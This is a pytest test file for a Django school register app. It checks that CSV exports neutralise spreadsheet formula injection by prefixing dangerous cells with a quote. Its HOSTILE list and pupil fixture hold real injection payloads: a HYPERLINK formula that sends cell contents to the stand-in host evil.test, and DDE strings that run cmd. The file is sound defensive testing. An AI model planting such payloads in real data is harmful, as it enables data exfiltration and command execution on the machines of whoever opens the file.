"""No CSV the register hands out can carry a spreadsheet formula: a cell beginning with
= + - @, a tab or a carriage return is written as text. Numbers stay numbers."""

import ast
import csv
import datetime
import io

import pytest
from django.core.management import call_command

from census.snapshots import snapshot_freeze
from sen_register.core.spreadsheet import safe_cell
from tests.factories import PupilFactory
from tests.source import PROJECT, source_files

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [7, -3, 2.5, "-3", "+1.5", "8", "Smith-Jones", "", None])
def test_numbers_and_ordinary_words_are_left_alone(value):
    assert safe_cell(value) == value


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula_in(text):
    for cell in _cells(text):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())


@pytest.fixture
def hostile_pupil(school):
    return PupilFactory(
        school=school,
        legal_surname='=HYPERLINK("http://evil.test","Open")',
        legal_forename="@SUM(A1:A9)",
        date_of_birth=datetime.date(2000, 1, 2),
    )


def _body(response):
    return b"".join(response.streaming_content).decode()


def test_the_register_csv_writes_a_formula_surname_as_text(client_for, senco, hostile_pupil):
    body = _body(client_for(senco).get(f"/schools/{hostile_pupil.school.urn}/register.csv?status="))
    assert "'=HYPERLINK" in body and "'@SUM(A1:A9)" in body
    _no_formula_in(body)


def test_the_census_csv_writes_a_formula_surname_as_text(client_for, head, hostile_pupil):
    urn = hostile_pupil.school.urn
    body = _body(client_for(head).get(f"/schools/{urn}/census/export.csv?date=2026-10-01"))
    assert "'=HYPERLINK" in body
    _no_formula_in(body)


def test_a_frozen_census_csv_writes_a_formula_surname_as_text(
    client_for, head, senco, hostile_pupil
):
    school = hostile_pupil.school
    snapshot = snapshot_freeze(school=school, on=datetime.date(2026, 10, 1), user=senco)
    url = f"/schools/{school.urn}/census/snapshots/{snapshot.pk}/export.csv"
    body = _body(client_for(head).get(url))
    assert "'=HYPERLINK" in body
    _no_formula_in(body)


def test_the_census_export_command_writes_a_formula_surname_as_text(hostile_pupil, capsys):
    call_command("census_export", "--school", hostile_pupil.school.urn, "--date", "2026-10-01")
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out
    _no_formula_in(out)


def test_the_retention_report_writes_a_formula_surname_as_text(hostile_pupil, capsys):
    hostile_pupil.date_of_birth = datetime.date(1990, 1, 2)  # past the retention period
    hostile_pupil.save()
    call_command("retention_report")
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out
    _no_formula_in(out)


def test_no_code_writes_csv_except_through_the_one_writer():
    writers = []
    for path in source_files():
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(str(path.relative_to(PROJECT)))
    assert writers == []
